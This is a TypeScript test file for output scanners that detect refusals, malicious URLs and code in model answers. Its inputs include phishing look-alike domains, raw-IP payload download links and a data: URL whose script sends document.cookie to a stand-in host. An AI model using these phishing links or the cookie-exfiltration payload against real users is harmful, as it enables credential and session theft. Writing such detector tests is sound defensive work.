// Output scanners (they read model answers): no_refusal, malicious_urls, no_code. Hand-written examples in several
// languages, not data-set rows: each scanner's flag paths, benign look-alikes, match spans, options and their
// validation, and the short windows the streaming guard scans. At the end, the held-out splits of
// data/output/ must meet issue 15's targets (figures computed from the data, as bench:guard-output prints them).

import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { domainToASCII } from 'node:url';
import { prepare } from './normalize.ts';
import { REFUSAL_RULES } from './lexicons/refusal.ts';
import { createMaliciousUrlsScanner } from './scanners/malicious-urls.ts';
import { createNoCodeScanner, NO_CODE_LANGUAGES } from './scanners/no-code.ts';
import { createNoRefusalScanner, positionFactor } from './scanners/no-refusal.ts';
import { figures, figuresByLang, loadSplit, POSITIVE, TARGETS, type OutputSet } from './data/output/evaluate.ts';
import type { ScanResult, Scanner } from './types.ts';
import { llmGuardEntries } from './llm-guard-config.ts';
import { OUTPUT_SCANNERS } from './specs.ts';

/** The original text under each match. */
function spans(text: string, result: ScanResult): string[] {
  return result.matches.map((m) => text.slice(m.start, m.end));
}

/** A helpful paragraph with no refusal cue, to bury phrases in. */
const HELPFUL =
  'Idempotency keys let a client retry a payment safely: the server stores the key with the result of the first request and returns that result for every retry. Store the key, the request hash and the response, and expire them after a day. ';

describe('no_refusal', () => {
  const scanner = createNoRefusalScanner();

  test('flags refusals in each language', () => {
    const refusals = [
      "I'm sorry, but I can't help with that.",
      'As an AI language model, I cannot provide instructions for picking locks.',
      'I must respectfully decline this request.',
      'That goes against my guidelines, so I will not write it.',
      '抱歉，我无法提供这方面的帮助。',
      '很抱歉，我無法協助您完成這個請求。',
      '作為一個人工智慧語言模型，我不能提供這類資訊。',
      'Xin lỗi, nhưng tôi không thể giúp bạn với yêu cầu này.',
      '申し訳ありませんが、そのご要望にはお応えできません。',
      '죄송하지만 그 요청은 도와드릴 수 없습니다.',
      'Извините, но я не могу помочь с этим запросом.',
      'عذراً، لا أستطيع تقديم المساعدة في هذا الطلب.',
      'Lo siento, pero no puedo ayudarte con eso.',
      'Je suis désolé, mais je ne peux pas vous aider avec cette demande.',
      'Es tut mir leid, aber ich kann dir dabei nicht helfen.',
      'Desculpe, mas não posso ajudar com isso.',
    ];
    for (const text of refusals) {
      const result = scanner.scan(text);
      assert.equal(result.flagged, true, text);
      assert.ok(result.matches.some((m) => m.rule.startsWith('refuse.')), `${text}: ${result.matches.map((m) => m.rule).join(' ')}`);
    }
  });

  test('flags soft refusals that lecture or reject the premise instead of answering', () => {
    assert.equal(scanner.scan('It is not appropriate to make generalizations about people based on their religion. Everyone deserves respect.').flagged, true);
    assert.equal(scanner.scan('First, it is important to understand that violence is never acceptable. Please talk to someone you trust.').flagged, true);
    assert.equal(scanner.scan("I don't have access to your neighbour's medical records. It's important to respect their privacy.").flagged, true);
  });

  test('a disclaimer alone does not flag, with a refusal it does', () => {
    const disclaimer = scanner.scan('As an AI, I find this topic fascinating! Here are three facts about octopuses.');
    assert.equal(disclaimer.flagged, false);
    assert.ok(disclaimer.score > 0);
    assert.equal(scanner.scan('As an AI, I cannot share that information.').flagged, true);
  });

  test('helpful answers and look-alikes do not flag', () => {
    const benign = [
      'Sure! Here is a Python function that reverses a string: def rev(s): return s[::-1]',
      'I can help you with that. First, open the settings page and choose "Accounts".',
      "The function can't be called before init() runs; I cannot stress this enough.",
      "Sorry for the delay! Here's the summary you asked for.",
      'To kill a stuck Python process, find its PID with ps and run kill -9 on it.',
      '当然可以！以下是制作蛋糕的步骤：先准备面粉和鸡蛋。',
      'もちろんです。以下にレシピを示します。',
      '물론입니다. 다음은 김치찌개 레시피입니다.',
      'Конечно! Вот пример кода на Python.',
      'بالتأكيد! إليك وصفة الكبسة.',
      'Chắc chắn rồi! Đây là cách nấu phở bò ngon.',
      // Phrases near the soft-refusal rules, in ordinary answers.
      'Jaywalking is illegal in many US cities, but enforcement varies. In New York it was decriminalised in 2024.',
      'There is no reason why your code should not work; check the import path and restart the dev server.',
      "I don't believe there's a built-in function for that, but you can write one in three lines.",
      'Your approach is not right for large inputs: the nested loop makes it quadratic. Use a hash map instead.',
      'We reject the null hypothesis at the 5% level, since p = 0.01.',
      "It's important to note that Python lists are mutable, so copying them needs care.",
      "I can't reproduce the error on my side; could you share the full stack trace?",
      'This value is not acceptable for the API: timeouts must be below 30 seconds.',
      "No, it's not safe to eat raw chicken because of salmonella. Cook it to 74 °C.",
      "I can't help but think this is a bug in the library. Here's a workaround.",
      'Sorry, but that is not how async works: the await pauses only this function.',
    ];
    for (const text of benign) assert.equal(scanner.scan(text).flagged, false, text);
  });

  test('a refusal phrase deep in a long helpful answer counts less than at the start', () => {
    const phrase = "I can't help with that.";
    const atStart = scanner.scan(phrase + ' ' + HELPFUL);
    const deep = scanner.scan(HELPFUL.repeat(4) + phrase);
    assert.equal(atStart.flagged, true);
    assert.equal(deep.flagged, false);
    assert.ok(deep.score > 0 && deep.score < atStart.score);
    assert.equal(positionFactor(0), 1);
    assert.equal(positionFactor(299), 1);
    assert.ok(positionFactor(900) < 0.5);
  });

  test('quoted refusals (reported speech) count half', () => {
    const quoted = scanner.scan('If the user asks for a diagnosis, the bot should reply "I cannot help with that, please see a doctor."');
    const plain = scanner.scan('I cannot help with that, please see a doctor.');
    assert.equal(plain.flagged, true);
    assert.equal(quoted.flagged, false);
    assert.ok(quoted.score > 0);
  });

  test('match spans point at the phrase in the original text, through normalisation', () => {
    const text = 'Well…\u200b I’m sorry, but I ｃａｎ’ｔ help with that.';
    const result = scanner.scan(text);
    assert.equal(result.flagged, true);
    const found = spans(text, result);
    assert.ok(found.includes('I’m sorry, but'), found.join(' | '));
    assert.ok(found.includes('I ｃａｎ’ｔ help'), found.join(' | '));
    const long = "I'm sorry, but I can't assist with that. " + HELPFUL.repeat(20);
    assert.ok(long.length > 4096);
    assert.deepEqual(spans(long, scanner.scan(long)).slice(0, 2), ["I'm sorry, but", "I can't assist"]);
  });

  test('threshold option moves the flag', () => {
    const text = 'As an AI language model, I find this fascinating.';
    assert.equal(scanner.scan(text).flagged, false);
    assert.equal(createNoRefusalScanner({ threshold: 0.3 }).scan(text).flagged, true);
    assert.equal(createNoRefusalScanner({ threshold: 0.99 }).scan("I'm sorry, but I can't help with that.").flagged, false);
  });

  test('invalid options throw', () => {
    assert.throws(() => createNoRefusalScanner({ threshold: 0 }), /threshold/);
    assert.throws(() => createNoRefusalScanner({ threshold: 1.5 }), /threshold/);
    assert.throws(() => createNoRefusalScanner({ threshold: Number.NaN }), /threshold/);
    assert.throws(() => createNoRefusalScanner({ threshold: '0.5' as unknown as number }), /threshold/);
  });

  test('every lexicon anchor survives normalisation (otherwise its rule could never fire)', () => {
    for (const rule of REFUSAL_RULES) {
      for (const anchor of rule.anchors) {
        const first = anchor.codePointAt(0) ?? 0;
        const wordless = (first >= 0x3040 && first <= 0x9fff) || (first >= 0xac00 && first <= 0xd7a3);
        if (!wordless) assert.equal(prepare(anchor).text, anchor, `${rule.id}: "${anchor}"`);
      }
    }
  });

  test('empty and short windows are cheap and clean', () => {
    assert.deepEqual(scanner.scan(''), { score: 0, flagged: false, matches: [] });
    assert.equal(scanner.scan('Hello').flagged, false);
  });
});

describe('malicious_urls', () => {
  const scanner = createMaliciousUrlsScanner();
  /** The rule of the single match, after checking the flag. */
  const rule = (text: string): string => {
    const result = scanner.scan(text);
    assert.equal(result.flagged, true, text);
    assert.equal(result.matches.length, 1, text);
    return result.matches[0]!.rule;
  };

  test('flags each kind of evidence, with the features in the rule', () => {
    assert.match(rule('Download it here: http://185.220.101.4/payload.exe'), /ip_host/);
    assert.match(rule('Download it here: http://185.220.101.4/payload.exe'), /executable/);
    assert.match(rule('Log in at https://paypal.com@evil.io/login to confirm.'), /^userinfo_domain/);
    assert.match(rule('Visit https://paypal.com.secure-update.xyz/signin now'), /brand_login/);
    assert.match(rule('https://apple-id-verify.com/account'), /brand_login/);
    assert.match(rule('Open https://microsoft-login.web.app/ to continue'), /brand_login/);
    assert.match(rule('Mirror: https://paypal.com.files-cdn.net/update'), /brand/);
    assert.match(rule('Go to https://аpple.com/ for the deal'), /mixed_script/); // Cyrillic а
    assert.match(rule(`Go to https://${domainToASCII('аpple.com')}/ for the deal`), /mixed_script\+punycode|punycode\+mixed_script/);
    assert.match(rule('<a href="javascript:alert(document.cookie)">click</a>'), /^script_url/);
    assert.match(rule('Open data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='), /^data_html/);
    assert.match(rule('Get the invoice: https://files.example.com/invoice.pdf.exe'), /^double_extension/);
    assert.match(rule('http://3232235777/admin'), /^obfuscated_ip/);
    assert.match(rule('http://0x7f.0x0.0x0.0x1/'), /^obfuscated_ip/);
    assert.match(rule('Install from https://bit.ly/3xYz.exe'), /shortener/);
    assert.match(rule('See evil.tk/path for details'), /tld_abused/);
    assert.match(rule('https://login.example.com%2eevil.io/'), /encoded_host/);
  });

  test('ordinary links in answers do not flag', () => {
    const benign = [
      'See https://github.com/nodejs/node and https://docs.python.org/3/library/re.html for details.',
      'According to https://en.wikipedia.org/wiki/Phishing_(attack), phishing is common.',
      'Run the server and open http://localhost:3000 or http://127.0.0.1:8080/api/v1.',
      'Use <script src="https://cdn.jsdelivr.net/npm/vue@3/dist/vue.global.js"></script>',
      'Python installer: https://www.python.org/ftp/python/3.12.0/python-3.12.0-amd64.exe',
      'Check google.com, amazon.co.uk, https://aws.amazon.com/s3/ and https://microsoft.github.io/monaco-editor/',
      'Sign in at https://accounts.google.com/signin or https://login.microsoftonline.com/common.',
      '<a href="javascript:void(0)">toggle</a>',
      'Version 1.2.3.4 was released; 8.8.8.8 is a public DNS resolver.',
      'Email john@example.com, or see https://stackoverflow.com/questions/123/how-to-use-google-maps-api',
      'IDN examples: https://пример.рф and https://例子.中国',
      'Edit README.md and main.py, unpack archive.zip, then run setup.sh with node.js.',
      'Image: data:image/png;base64,iVBORw0KGgo=',
      'Store it in s3://my-bucket/key and call db.orders.find(req.params.id).',
    ];
    for (const text of benign) assert.equal(scanner.scan(text).flagged, false, text);
  });

  test('match spans are the URLs, without the punctuation around them', () => {
    const text = 'Links: (https://185.220.101.4/a.exe), [mirror](http://evil.tk/x). And https://github.com/x.';
    assert.deepEqual(spans(text, scanner.scan(text)), ['https://185.220.101.4/a.exe', 'http://evil.tk/x']);
    const wiki = 'Bad: http://1.2.3.4/wiki/Foo_(bar).';
    assert.deepEqual(spans(wiki, scanner.scan(wiki)), ['http://1.2.3.4/wiki/Foo_(bar)']);
  });

  test('the text scores as its worst URL', () => {
    const one = scanner.scan('https://shop.example.xyz/a');
    const many = scanner.scan('https://shop.example.xyz/a https://news.example.top/b https://blog.example.icu/c');
    assert.equal(one.flagged, false);
    assert.equal(many.score, one.score);
    assert.equal(many.matches.length, 3);
  });

  test('deny list flags, allow list wins over everything', () => {
    const deny = createMaliciousUrlsScanner({ denyDomains: ['Example.org', 'https://bad.net/path', '*.worse.com'] });
    assert.equal(deny.scan('see https://docs.example.org/page').score, 1);
    assert.equal(deny.scan('see bad.net/x and https://a.worse.com').flagged, true);
    assert.equal(deny.scan('see https://notexample.org/page').flagged, false);
    const allow = createMaliciousUrlsScanner({ allowDomains: ['evil.tk', '185.220.101.4'], denyDomains: ['evil.tk'] });
    assert.equal(allow.scan('http://evil.tk/payload.exe and http://185.220.101.4/x.exe').flagged, false);
    assert.equal(allow.scan('http://other.tk/payload.exe').flagged, true);
  });

  test('threshold option moves the flag', () => {
    assert.equal(scanner.scan('https://shop.example.xyz/').flagged, false);
    assert.equal(createMaliciousUrlsScanner({ threshold: 0.3 }).scan('https://shop.example.xyz/').flagged, true);
    assert.equal(createMaliciousUrlsScanner({ threshold: 0.95 }).scan('https://paypal.com@evil.io/').flagged, false);
  });

  test('invalid options throw', () => {
    assert.throws(() => createMaliciousUrlsScanner({ threshold: 0 }), /threshold/);
    assert.throws(() => createMaliciousUrlsScanner({ threshold: 2 }), /threshold/);
    assert.throws(() => createMaliciousUrlsScanner({ allowDomains: ['not a domain'] }), /allowDomains/);
    assert.throws(() => createMaliciousUrlsScanner({ denyDomains: [''] }), /denyDomains/);
    assert.throws(() => createMaliciousUrlsScanner({ denyDomains: 'evil.tk' as unknown as string[] }), /denyDomains/);
    assert.throws(() => createMaliciousUrlsScanner({ allowDomains: [42 as unknown as string] }), /allowDomains/);
  });

  test('a stream window that cuts a real login link after its brand does not flag it', () => {
    const answer = 'Sign in at https://accounts.google.com/signin/v2, or at https://login.microsoftonline.com/common, then continue.';
    for (let end = 10; end <= answer.length; end++) assert.equal(scanner.scan(answer.slice(0, end)).flagged, false, answer.slice(0, end));
    // Cut or not, a brand in another's name still reads.
    assert.equal(scanner.scan('Sign in at https://accounts.google.com.evil').flagged, true);
  });

  test('short windows: a URL cut by the window still reads', () => {
    const window = 'ownload the update from http://185.220.101.4/upd';
    assert.equal(scanner.scan(window).flagged, true);
    assert.equal(scanner.scan('').flagged, false);
  });
});

describe('no_code', () => {
  const scanner = createNoCodeScanner();
  const flagged = (text: string): ScanResult => {
    const result = scanner.scan(text);
    assert.equal(result.flagged, true, text);
    return result;
  };

  test('flags fenced, indented and bare code, and names the language', () => {
    const cases: [string, RegExp][] = [
      ['Here you go:\n```python\ndef add(a, b):\n    return a + b\n```\nThat is all.', /^fenced_code\.python$/],
      ['Sure:\n\ndef greet(name):\n    print(f"Hello {name}")\n\ngreet("Bob")', /^lines_code\.python$/],
      ['#include <stdio.h>\nint main(void) {\n  printf("hi\\n");\n  return 0;\n}', /^lines_code\.c$/],
      ['public static void main(String[] args) {\n  System.out.println("x");\n}', /^lines_code\.java$/],
      ['Run this query:\nSELECT name, email FROM users WHERE id = 42;', /^lines_code\.sql$/],
      ["import express from 'express';\nconst app = express();\napp.listen(3000, () => console.log('up'));", /^lines_code\.javascript$/],
      ['Install it:\n$ npm install --save lodash', /^lines_code\.shell$/],
      ['Example:\n\n    for i in range(10):\n        print(i)\n', /^indented_code\.python$/],
      ['package main\n\nfunc main() {\n\tfmt.Println("hi")\n}', /^lines_code\.go$/],
      ['fn main() {\n    let mut v = Vec::new();\n}', /^lines_code\.rust$/],
      ['<?php\n$name = "x";\necho $name;', /^lines_code\.php$/],
      ['```\nx = compute(y)\n```', /^fenced_code$/],
    ];
    for (const [text, rule] of cases) {
      const result = flagged(text);
      assert.ok(result.matches.some((m) => rule.test(m.rule)), `${text}: ${result.matches.map((m) => m.rule).join(' ')}`);
    }
  });

  test('prose about code does not flag', () => {
    const benign = [
      'A function is a reusable block of code that performs a specific task. You can call a function many times.',
      'To kill a Python process, find its PID with the task manager and end it. Use the print() function to debug.',
      'Select the file from the menu, then import your photos from the camera.',
      'The class starts at 9am. Public transport is free on Sundays; bring a ticket anyway.',
      '1. Open settings\n2. Choose "Privacy"\n3. Turn off tracking (recommended).',
      'The ratio is 3/4 (75%) and x > y in most cases.',
      'git is a distributed version control system created by Linus Torvalds.',
      '- Item one\n    - nested item (with a note)\n    - another nested item',
      '$5 is the price, and it costs $ 10 with shipping.',
      'Use an if statement: if the value is larger than ten, stop.',
      'Versuchen Sie es mit einer Funktion; 函数是一段代码。Функция возвращает значение.',
    ];
    for (const text of benign) assert.equal(scanner.scan(text).flagged, false, text);
  });

  test('a fence of plain prose without a language does not flag; marked text fences are judged by their lines', () => {
    assert.equal(scanner.scan('```\nDear John,\nThank you for the flowers.\nBest, Mary\n```').flagged, false);
    assert.equal(scanner.scan('```text\nHello world, this is plain output.\n```').flagged, false);
    assert.equal(scanner.scan('```text\nconst a = f(x);\nconst b = g(a);\n```').flagged, true);
  });

  test('match spans cover the code and nothing else', () => {
    const fenced = 'Before.\n```js\nconst a = 1;\n```\nAfter.';
    assert.deepEqual(spans(fenced, scanner.scan(fenced)), ['```js\nconst a = 1;\n```']);
    const bare = 'Try this:\ndef f(x):\n    return x * 2\nThen call it.';
    assert.deepEqual(spans(bare, scanner.scan(bare)), ['def f(x):\n    return x * 2']);
  });

  test('streamed windows: an opening fence alone, or code without its fence', () => {
    assert.equal(scanner.scan('Here is the script:\n```bash\n').flagged, true);
    assert.equal(scanner.scan('  const total = items.reduce((s, i) => s + i.price, 0);\n  return total;\n}').flagged, true);
    assert.equal(scanner.scan('and then you call it. The rest of the answer is prose, no code here at all.').flagged, false);
  });

  test('languages option: only those count; unknown-language spans count half', () => {
    const onlyPython = createNoCodeScanner({ languages: ['python'] });
    assert.equal(onlyPython.scan('```python\nprint("hi")\n```').flagged, true);
    assert.equal(onlyPython.scan('```js\nconsole.log("hi");\n```').flagged, false);
    assert.ok(Math.abs(onlyPython.scan('```\nx = compute(y)\n```').score - 0.45) < 1e-9);
    // Aliases, and the families the guess cannot split.
    assert.equal(createNoCodeScanner({ languages: ['ts'] }).scan("import x from 'y';\nconst a = 1;").flagged, true);
    assert.equal(createNoCodeScanner({ languages: ['c++'] }).scan('#include <vector>\nint main() {\n  return 0;\n}').flagged, true);
    assert.ok(NO_CODE_LANGUAGES.includes('python') && NO_CODE_LANGUAGES.includes('shell'));
  });

  test('threshold option moves the flag', () => {
    assert.equal(scanner.scan('SELECT * FROM users;').flagged, true);
    assert.equal(createNoCodeScanner({ threshold: 0.9 }).scan('SELECT * FROM users;').flagged, false);
    // One line with two weak signals (an assignment, dense operators) is not enough by default; three are.
    assert.equal(scanner.scan('total = price * qty').flagged, false);
    assert.equal(createNoCodeScanner({ threshold: 0.2 }).scan('total = price * qty').flagged, true);
    assert.equal(scanner.scan('x = compute(y);').flagged, true);
  });

  test('invalid options throw', () => {
    assert.throws(() => createNoCodeScanner({ threshold: 0 }), /threshold/);
    assert.throws(() => createNoCodeScanner({ threshold: -1 }), /threshold/);
    assert.throws(() => createNoCodeScanner({ languages: ['klingon'] }), /unknown language/);
    assert.throws(() => createNoCodeScanner({ languages: [] }), /languages/);
    assert.throws(() => createNoCodeScanner({ languages: 'python' as unknown as string[] }), /languages/);
  });
});

describe('malicious_urls: look-alikes, phishing hosts, shorteners', () => {
  const scanner = createMaliciousUrlsScanner();
  const rules = (text: string): string => scanner.scan(text).matches.map((m) => m.rule).join(' ');

  test('a brand misspelt with digits, "rn" for "m" or one letter off reads as a look-alike', () => {
    for (const host of ['paypa1-help.com', 'rnicrosoft-online.com', 'g0ogle.net', 'linkedln.com', 'instagran.com', 'dropbpx.com']) {
      const result = scanner.scan(`Continue at https://${host}/start`);
      assert.equal(result.flagged, true, host);
      assert.match(rules(`https://${host}/start`), /lookalike/, host);
    }
    // The brands themselves, and words one letter from a brand that are words in their own right.
    for (const text of ['https://www.linkedin.com/in/someone', 'https://www.instagram.com/p/abc/', 'https://finance.yahoo.com/quote/AAPL', 'https://finance.example.com/markets']) {
      assert.equal(scanner.scan(text).flagged, false, text);
    }
  });

  test('punycode: a homograph of a brand flags, a name in its own script does not', () => {
    assert.match(rules(`https://${domainToASCII('аmazon.com')}/orders`), /homograph/);
    assert.match(rules(`https://${domainToASCII('gοοgle.com')}/`), /homograph/); // Greek omicrons
    for (const host of ['яндекс.рф', 'пример.испытание', '例子.中国', 'münchen.de', 'مثال.مصر']) {
      assert.equal(scanner.scan(`https://${domainToASCII(host)}/`).flagged, false, host);
    }
  });

  test('a host named in phishing vocabulary, or made to start like another host, flags', () => {
    assert.match(rules('https://verify-account-session.com/'), /credential_host/);
    assert.match(rules('https://support.example.com.account-review.net/'), /tld_in_subdomain/);
    assert.equal(scanner.scan('https://support.example.com/account/login').flagged, false);
    assert.match(rules('https://free-bonus-spins.top/'), /lure/);
  });

  test("a brand next to a service's word in another's name flags; next to an ordinary word it does not", () => {
    assert.match(rules('https://dhl-parcel-notice.com/'), /brand_service/);
    assert.match(rules('https://discorcl-nitro.com/'), /lookalike/); // "cl" reads as "d"
    assert.equal(scanner.scan('https://apple-pie-recipes.com/').flagged, false);
  });

  test('the real sites of the brands it knows, and of popular sites in the eight languages, do not flag', () => {
    const hosts =
      'www.paypal.com/signin appleid.apple.com login.microsoftonline.com accounts.google.com www.amazon.co.jp/ap/signin www.netflix.com/login github.com/login someone.github.io gitlab.com discord.com/login www.youtube.com youtu.be/abc open.spotify.com www.roblox.com www.tiktok.com www.binance.com www.coinbase.com metamask.io www.wellsfargo.com secure.bankofamerica.com www.alipay.com www.taobao.com www.baidu.com www.qq.com www.zhihu.com www.rakuten.co.jp www.yahoo.co.jp nid.naver.com accounts.kakao.com passport.yandex.ru www.sberbank.ru www.gosuslugi.ru vk.com dantri.com.vn www.vietcombank.com.vn www.alrajhibank.com.sa www.youm7.com web.telegram.org www.ptt.cc meta.wikimedia.org';
    for (const host of hosts.split(' ')) assert.equal(scanner.scan(`https://${host}`).flagged, false, host);
  });

  test('phishing words in the languages Sluice serves, a bank name, one service word under a risky TLD', () => {
    assert.match(rules('https://techcombank-xacthuc.com/'), /credential_host/);
    assert.match(rules('https://yandex-vhod.info/'), /brand_login/);
    assert.match(rules('https://parcel-redelivery.icu/'), /risky_name/);
    assert.equal(scanner.scan('https://www.techcombank.com.vn/ and https://status.example.xyz/').flagged, false);
  });

  test('shorteners and .zip/.mov hosts flag alone; other risky TLDs need company', () => {
    assert.match(rules('Read https://is.gd/xyz'), /^shortener$/);
    assert.equal(scanner.scan('Read https://is.gd/xyz').flagged, true);
    assert.equal(scanner.scan('Get https://release-notes.zip').flagged, true);
    assert.equal(scanner.scan('Alphabet: https://abc.xyz/').flagged, false);
    assert.equal(createMaliciousUrlsScanner({ allowDomains: ['is.gd'] }).scan('Read https://is.gd/xyz').flagged, false);
  });

  test("each scanner keeps its own host cache: one scanner's allow list does not leak into another", () => {
    const allowing = createMaliciousUrlsScanner({ allowDomains: ['bit.ly'] });
    assert.equal(allowing.scan('https://bit.ly/a').flagged, false);
    assert.equal(scanner.scan('https://bit.ly/a').flagged, true);
    // And a cached host gives the same verdict as the first time.
    assert.deepEqual(scanner.scan('https://paypa1-help.com/x'), scanner.scan('https://paypa1-help.com/x'));
  });
});

describe('malicious_urls: active data: URLs, fake TLD labels, login paths on suspect hosts', () => {
  const scanner = createMaliciousUrlsScanner();
  const rules = (text: string): string => scanner.scan(text).matches.map((m) => m.rule).join(' ');

  test('a data: URL carrying HTML or script flags, even when the comma after its media type ends the match', () => {
    assert.match(rules('Open data:text/html,<h1>Session expired</h1><form action=//x.test>…'), /data_html/);
    assert.match(rules('Dán vào thanh địa chỉ: data:application/javascript,fetch("//x.test/"+document.cookie)'), /data_html/);
    assert.equal(scanner.scan('The logo is inlined as data:image/png;base64,iVBORw0KGgo= in the stylesheet.').flagged, false);
  });

  test('a TLD written with digits, or a TLD as the name under a generic TLD, makes the host start like another', () => {
    for (const url of ['https://kakao-talk.c0m.icu/auth', 'https://sber-online.n3t.top/', 'http://mybank.com.top/']) {
      assert.equal(scanner.scan(`Зайдите по ссылке ${url} чтобы продолжить.`).flagged, true, url);
      assert.match(rules(url), /tld_in_subdomain/, url);
    }
    // A country's second level ("in.th", "co.ke") is not a fake TLD, and a .com under .com is not either.
    for (const url of ['https://www.nectec.in.th/about', 'https://shop.co.ke/account/login', 'https://www.example.com/com/docs']) {
      assert.equal(scanner.scan(url).flagged, false, url);
    }
  });

  test('a login path counts on a host that already shows evidence, not on a site of its own', () => {
    assert.match(rules('سجّل الدخول هنا: http://parcel-ae.top/account/login/confirm'), /credential_path/);
    assert.equal(scanner.scan('Khi cần, vào http://hoadon-dien.xyz/taikhoan/dangnhap để xem.').flagged, true);
    for (const url of ['https://github.com/login/device/verify', 'https://my.example.org/account/security/login', 'https://docs.example.xyz/guide/intro']) {
      assert.equal(scanner.scan(url).flagged, false, url);
      assert.doesNotMatch(rules(url), /credential_path/, url);
    }
  });
});

describe('no_code: command lines, one-liners, code in prose, JSON', () => {
  const scanner = createNoCodeScanner();
  const rules = (text: string): string => scanner.scan(text).matches.map((m) => m.rule).join(' ');

  test('command lines by the shape of their arguments', () => {
    for (const text of ['chmod 600 ~/.ssh/id_ed25519', "grep -rn 'TODO' src/ | wc -l", 'cd /srv/app && git pull --rebase', 'pip install -r requirements.txt', 'kubectl get pods -n prod']) {
      assert.match(rules(text), /lines_code\.shell/, text);
    }
    // The same programs as English words, without an argument shaped like one.
    for (const text of ['Find the file in your downloads folder and open it.', 'Make sure the oven is hot.', 'Sort the cards by colour, then head to the next step.', 'Cat owners know this well.']) {
      assert.equal(scanner.scan(text).flagged, false, text);
    }
  });

  test('a program and one of its usual subcommands is a command line; the same words in a sentence are not', () => {
    for (const text of ['npm install express', 'git status', 'sudo systemctl restart nginx', 'ipconfig /all']) assert.match(rules(text), /shell/, text);
    for (const text of ['npm start is the usual way to launch it, then open the browser.', 'Go get some milk.', 'Install the app, then log in.']) {
      assert.equal(scanner.scan(text).flagged, false, text);
    }
  });

  test('PowerShell cmdlets and shell loops', () => {
    assert.match(rules('Get-Process | Sort-Object CPU -Descending | Select-Object -First 5'), /powershell/);
    assert.match(rules('Invoke-WebRequest -Uri https://example.com -OutFile page.html'), /powershell/);
    assert.match(rules('for x in a b c; do echo "$x"; done'), /shell/);
    assert.equal(scanner.scan('Get-together tonight at 7? Set-up starts at 6.').flagged, false);
  });

  test('one line with three code signals flags; a CSS rule on one line is code', () => {
    assert.equal(scanner.scan('result = sorted(items, key=len)[:3]').flagged, true);
    assert.match(rules('h1 { font-size: 2rem; color: #333; }'), /css/);
  });

  test('after sudo, any program and word is a command, even inside a sentence', () => {
    assert.match(rules('Чтобы очистить кэш, выполните sudo apt-get clean и перезагрузитесь.'), /inline_code\.shell/);
  });

  test('a command or a code span inside a sentence counts', () => {
    assert.match(rules('If the merge went wrong, go back with git merge --abort and try again.'), /inline_code\.shell/);
    assert.match(rules('設定を反映するには npm run build -- --prod を実行してください。'), /inline_code\.shell/);
    assert.equal(scanner.scan('Set `retries = max(1, n - 1);` in the config.').flagged, true);
    assert.equal(scanner.scan('Use git to keep track of versions, and npm to manage packages.').flagged, false);
    assert.equal(scanner.scan('Pass the `--dry-run` flag first.').flagged, false);
  });

  test('allowLanguages exempts those languages (LLM Guard Code with is_blocked: false); not with languages', () => {
    const pythonAllowed = createNoCodeScanner({ allowLanguages: ['Python'] });
    assert.equal(pythonAllowed.scan('```python\nprint("hi")\n```').flagged, false);
    assert.equal(pythonAllowed.scan('```js\nconsole.log("hi");\n```').flagged, true);
    assert.equal(pythonAllowed.scan('rm -rf ./build && npm ci').flagged, true);
    assert.throws(() => createNoCodeScanner({ languages: ['go'], allowLanguages: ['python'] }), /not both/);
    assert.throws(() => createNoCodeScanner({ allowLanguages: ['cobolish'] }), /unknown language/);
  });

  test('a bare JSON document is data, not code; a fenced block is code whatever it holds', () => {
    assert.equal(scanner.scan('{"id": 7, "tags": ["a", "b"], "ok": true}').flagged, false);
    assert.equal(scanner.scan('Result:\n[\n  {"name": "Ann", "score": 91},\n  {"name": "Bo", "score": 78}\n]').flagged, false);
    assert.equal(scanner.scan('```json\n{"id": 7}\n```').flagged, true);
    // JSON-looking code is still code.
    assert.equal(scanner.scan('{\n  const x = load();\n  return x;\n}').flagged, true);
    // A long pretty-printed document whole, and the 256-character windows a stream is read in (which never parse).
    const json = JSON.stringify({ results: Array.from({ length: 8 }, (_, i) => ({ id: i, tags: ['a', 'b'], nested: { ok: true, price: i * 1.5 } })) }, null, 2);
    assert.equal(scanner.scan(json).flagged, false);
    for (let at = 0; at + 256 < json.length; at += 41) assert.equal(scanner.scan(json.slice(at, at + 256)).flagged, false, json.slice(at, at + 256));
  });
});

describe('no_code: code families inside prose in any language', () => {
  const scanner = createNoCodeScanner();
  const rules = (text: string): string => scanner.scan(text).matches.map((m) => m.rule).join(' ');
  const flags = (texts: readonly string[], expected: boolean): void => {
    for (const text of texts) assert.equal(scanner.scan(text).flagged, expected, text);
  };

  test('a command with flags, or a pipeline, inside a sentence in any language', () => {
    for (const text of [
      'To see which folders eat your disk, try df -h and then du -sh /var/* to narrow it down.',
      '想知道 8080 端口被谁占用，可以先跑 ss -ltnp 看一下。',
      'Để xem tiến trình nào ngốn RAM, gõ ps aux | sort -nk 4 | tail -5 rồi xem cột cuối.',
      'Чтобы следить за логом в реальном времени, используйте tail -f /var/log/syslog.',
      'ログの行数を数えるなら cat access.log | wc -l で十分です。',
    ]) {
      assert.match(rules(text), /inline_code\.shell/, text);
    }
    // The same words as English verbs or nouns, a pipe in a table, an option named in prose.
    flags(
      [
        'Sort the receipts by month and head to the accountant with the top three.',
        'Find the -v option in the manual if you want more detail.',
        '| Tool | Use |\n|---|---|\n| ls | list files |\n| cat | print a file |',
        'The kill switch cuts power in under a second; free shipping applies to orders over $50.',
      ],
      false,
    );
  });

  test('a crontab line is a command, five numbers in a sentence are not', () => {
    assert.match(rules('Schedule it nightly with this entry: 15 1 * * 1-5 /opt/scripts/rotate-logs.sh'), /inline_code\.shell/);
    assert.match(rules('Hoặc đơn giản hơn: @reboot /home/pi/start-bot.sh'), /inline_code\.shell/);
    flags(['The vote was 3 2 * 4 5 in favour, with one star marking the chair.', 'Rate each dish from 1 to 5 stars: * is poor, ***** is excellent.'], false);
  });

  test('SQL by its clauses: inline after a colon in any language, or spread over lines', () => {
    for (const text of [
      '統計每個城市的訂單數：SELECT city, COUNT(*) AS n FROM orders GROUP BY city;',
      'Xóa các bản ghi cũ bằng lệnh: DELETE FROM nhat_ky WHERE ngay < 2020;',
      'Ответ такой: UPDATE users SET active = 0 WHERE last_login IS NULL;',
      'Top spenders this year:\n\nSELECT u.email, SUM(p.amount) AS total\nFROM users u\nJOIN payments p ON p.user_id = u.id\nWHERE p.year = 2025\nGROUP BY u.email\nHAVING SUM(p.amount) > 500\nORDER BY total DESC;',
    ]) {
      assert.match(rules(text), /code\.sql/, text);
    }
